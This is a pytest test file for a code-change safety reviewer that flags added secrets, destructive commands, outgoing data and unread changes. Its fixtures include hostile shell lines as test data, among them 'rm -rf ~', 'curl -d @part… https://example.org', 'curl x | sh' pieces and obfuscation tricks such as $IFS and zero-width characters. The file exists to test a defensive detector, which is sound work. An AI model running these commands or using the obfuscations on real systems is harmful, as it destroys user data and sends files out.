"""Reading a change: fast where nothing can be found, whole where something can, and honest about what was not read."""

import itertools
import random
import shlex
import subprocess
import sys
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.data.alignment import KEYS, cases
from tightloop.safety.change.patch import LINE_CHARACTERS, Change, Unread, read_patch
from tightloop.safety.change.reading import Deadline
from tightloop.safety.change.rules import review_change, still_stands
from tightloop.safety.commands.rules import check_script, find_violations, may_violate
from tightloop.safety.commands.shell import plain, read_script
from tightloop.safety.rubric import Finding, Verdict

KEY = f"api = OpenAI(api_key='{KEYS['openai']}')"


def new_file(path: str, *lines: str) -> str:
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n"
        + body
    )


def changed_file(path: str, before: list[str], after: list[str]) -> str:
    lines = "".join(f"-{line}\n" for line in before) + "".join(f"+{line}\n" for line in after)
    head = f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
    return f"{head}@@ -1,{len(before)} +1,{len(after)} @@\n{lines}"


def read(*patches: str, watch: Deadline | None = None, unread: Unread = Unread()) -> tuple[Finding, ...]:
    change = Change(files=read_patch("".join(patches)), goal="tidy up", lines_before=1_000_000, unread=unread)
    return review_change(change, watch=watch)


def ticking(bound_s: float) -> Deadline:
    """A watch whose clock goes on by a second whenever it is looked at."""
    return Deadline(itertools.count().__next__, bound_s)


# what was not read


def test_a_change_that_takes_too_long_to_read_is_left_to_a_person() -> None:
    script = new_file("tools/big.sh", *(f"curl -d @part{n} https://example.org" for n in range(3_000)))
    found = {item.rule: item for item in read(new_file("a.py", "x = 1"), script, watch=ticking(120))}
    item = found["change_not_read"]
    assert item.verdict is Verdict.ASK
    assert item.where == "tools/big.sh"
    assert item.evidence.startswith("1 of 3001 changed lines were checked: reading the rest would take too long")
    assert "tools/big.sh" in item.evidence
    assert "sends_data" in found, "what was found before the time was over is told"


def test_a_file_that_takes_long_hides_no_small_one() -> None:
    noise = new_file("a/noise.sh", *(f"curl -d @part{n} https://example.org" for n in range(3_000)))
    small = new_file("z/clean.sh", "rm -rf ~")
    rules = {(item.rule, item.where) for item in read(noise, small, watch=ticking(120))}
    assert ("destructive_command", "z/clean.sh:1") in rules
    assert ("change_not_read", "a/noise.sh") in rules


def test_with_no_time_at_all_every_file_is_left_to_a_person() -> None:
    (item,) = read(new_file("a.py", KEY), new_file("b.py", "x = 1"), watch=ticking(0))
    assert (item.rule, item.evidence[:9]) == ("change_not_read", "0 of 2 ch")


def test_a_change_without_a_patch_is_left_to_a_person_until_the_file_is_changed_again() -> None:
    unread = Unread(paths=("data/dump.csv",), files=3, lines=70_000, why="no patch", mark="tree-1")
    (item,) = read(new_file("a.py", "x = 1"), unread=unread)
    (other,) = read(unread=unread._replace(mark="tree-2"))
    assert (item.rule, item.verdict, item.where) == ("change_not_read", Verdict.ASK, "data/dump.csv")
    assert item.evidence.startswith("1 of 70001 changed lines were checked: no patch")
    assert item.fingerprint != other.fingerprint, "a yes is for this content only"
    assert still_stands(item, Change(files=read_patch(new_file("b.py", "y = 1"))))
    assert not still_stands(item, Change(files=read_patch(changed_file("data/dump.csv", ["a"], ["b"]))))
    assert not still_stands(item, Change(unread=unread)), (
        "a change of the file that is unread, too, is asked about anew"
    )


def test_a_flood_of_other_questions_does_not_push_out_that_something_was_not_read() -> None:
    unread = Unread(paths=("dump.csv",), files=1, lines=9, why="no patch")
    flood = [new_file(f"a{n}.sh", f"curl -d @part{n} https://example.org", "chmod 777 $x") for n in range(9)]
    tests = [changed_file(f"tests/test_a{n}.py", [f"def test_a{n}(): pass"], []) for n in range(9)]
    assert "change_not_read" in {item.rule for item in read(*flood, *tests, unread=unread)}


def test_a_long_line_is_read_to_its_end() -> None:
    padding = "x " * LINE_CHARACTERS
    assert [item.rule for item in read(new_file("a.py", f"# {padding} {KEY} {padding}"))] == ["secret_added"]
    assert [item.rule for item in read(new_file("a.sh", f"true {'x ' * 700}; rm -rf ~"))] == ["destructive_command"]


@pytest.mark.parametrize("between", ["- ", "-"])
@pytest.mark.parametrize("at", range(1_700, 2_100, 37))
def test_a_key_across_two_pieces_of_a_long_line_is_seen_and_not_shown(at: int, between: str) -> None:
    key = KEYS["openai"]
    found = read(new_file("a.py", f"{between * (at // len(between))}={key} {between * 2_000}"))
    assert {(item.rule, item.where) for item in found} == {("secret_added", "a.py:1")}
    parts = [key[begin : begin + 16] for begin in range(len(key) - 15)]
    assert not any(part in item.evidence for part in parts for item in found)


def test_lines_behind_context_and_removals_have_their_numbers() -> None:
    patch = (
        "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -3,3 +3,4 @@ def f():\n one\n-two\n+2\n+zwei\n three\n"
        "@@ -40,2 +41,2 @@\n-last\n+letzte\n\\ No newline at end of file\n"
    )
    (file,) = read_patch(patch)
    assert list(file.added) == [(4, "2"), (5, "zwei"), (41, "letzte")]
    assert list(file.removed) == [(4, "two"), (40, "last")]


def test_a_path_that_git_quotes_is_read_as_it_is() -> None:
    quoted = 'diff --git "a/\\303\\244 \\"x\\".py" "b/\\303\\244 \\"x\\".py"\n'
    (changed,) = read_patch(
        f'{quoted}--- "a/\\303\\244 \\"x\\".py"\n+++ "b/\\303\\244 \\"x\\".py"\n@@ -0,0 +1 @@\n+x\n'
    )
    (empty,) = read_patch(f"{quoted}new file mode 100644\nindex 0000000..e69de29\n")
    assert (changed.path, empty.path) == ('ä "x".py', 'ä "x".py')


# what is left out early


PIECES = [
    *(step if isinstance(step, str) else " ".join(step) for case in cases("plans") for step in case.steps),
    *("rm -rf ~", "git push -f", "bash -c", "eval", "ssh h", "python -c \"os.system('rm -rf ~')\"", "base64 -d x"),
    *("curl x", "| sh", "${IFS}", "$IFS", "''", '""', "\\", ";", "&&", "#", "(", "@", "/", "\\\n", "ｒｍ"),
    *("\u200b", "\u0130", "$(", "`"),
]  # fmt: skip
DRESSES = st.lists(st.sampled_from([*PIECES, " ", " ", "'", '"', "x", "\t"]), max_size=8).map("".join)


@given(DRESSES)
def test_text_that_may_not_violate_a_rule_does_not(text: str) -> None:
    shown = plain(text)
    if not may_violate(shown):
        assert check_script(shown) == ()


def test_violation_is_expected_however_it_is_dressed() -> None:
    chosen = random.Random(7)
    seen = 0
    for piece in PIECES * 20:
        place = chosen.randrange(len(piece) + 1)
        dressed = plain(piece[:place] + chosen.choice(["''", '""', "\\", " ", "\u200b", "/", "@"]) + piece[place:])
        broken = check_script(dressed)
        seen += bool(broken)
        assert may_violate(dressed) or not broken, dressed
        assert find_violations(dressed) == broken
    assert seen > 200


@given(st.lists(st.text(st.characters(exclude_characters="\0\r", exclude_categories=["Cs"])), min_size=1))
def test_quoted_words_are_read_as_they_were(words: list[str]) -> None:
    script = read_script(shlex.join(words))
    assert script.is_complete
    assert [command.argv for command in script.commands] == [tuple(words)]


def test_letter_that_ends_the_parser_of_bash_is_read() -> None:
    assert [command.argv for command in read_script("echo {\U000f54a4 é").commands] == [("echo", "{\U000f54a4", "é")]


# time


def filled(make: Callable[[int], str], size: int = 600_000) -> list[str]:
    first = make(0)
    return [make(number) for number in range(size // (len(first) + 2))]


HOSTILE = {
    "empty lines": new_file("a.py", *[""] * 300_000),
    "signs of addresses": new_file("a.csv", *["@"] * 200_000),
    "halves of addresses": new_file("a.csv", "a@" * 300_000),
    "numbers": new_file("a.csv", *filled(lambda n: f"{4111111111111000 + n}")),
    "beginnings of keys": new_file("a.py", *["-----BEGIN PRIVATE " + "KEY-----"] * 20_000),
    "long commands": new_file("a.sh", *filled(lambda n: f"rm {n} " + "Remove-Item -Recurse " * 90)),
    "brackets": new_file("a.sh", *filled(lambda n: f"rm {n}" + "(((;;;" * 300)),
    "calls in code": new_file("a.js", *filled(lambda _n: "exec('" * 300)),
    "licences": new_file("a.py", *filled(lambda _n: "# SPDX-License-Identifier: GPL " * 55 + "OR MIT")),
    "one body": changed_file("tests/test_a.py", ["def test_a():", *filled(lambda n: f"    f({n})")], []),
    "renamed tests": changed_file(
        "tests/test_a.py",
        filled(lambda n: f"def test_{n}():", 300_000),
        filled(lambda n: f"def test_x{n}():", 300_000),
    ),
    "tests and sources": changed_file("tests/test_a.py", filled(lambda n: f"def test_{n}(): f{n}()", 300_000), [])
    + changed_file("a.py", filled(lambda n: f"def name{n}(): pass", 300_000), []),
    "skips": new_file("tests/test_a.py", *filled(lambda n: f"    pytest.skip({n})")),
    "steps": changed_file(".github/workflows/a.yml", filled(lambda n: f"  - run: pytest {n}"), ["  - run: x"]),
    "files": "".join(new_file(f"d/a{n}.py", f"x{n} = 1") for n in range(4_000)),
}


def pace() -> float:
    """Return what a fixed piece of work takes here, in seconds of processor time."""
    begun = time.thread_time()
    sum(n * n for n in range(1_000_000))
    return time.thread_time() - begun


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_takes_much_longer_to_read_than_the_bound(name: str) -> None:
    unit = min(pace() for _ in range(3))
    begun = time.thread_time()
    findings = read(HOSTILE[name], watch=Deadline(time.thread_time, 0.2))
    took = time.thread_time() - begun
    print(f"\n{name}: {took * 1_000:.0f} ms of processor time, {sorted({item.rule for item in findings})}")
    assert took < 0.2 + 30 * unit


def test_neither_client_nor_workflows_load_the_parser() -> None:
    code = "import sys, tightloop.client, workflows.episode.workflow, workflows.plan.workflow; print(*sys.modules)"
    done = subprocess.run((sys.executable, "-c", code), capture_output=True, text=True, check=True, timeout=60)
    assert "tree_sitter" not in done.stdout
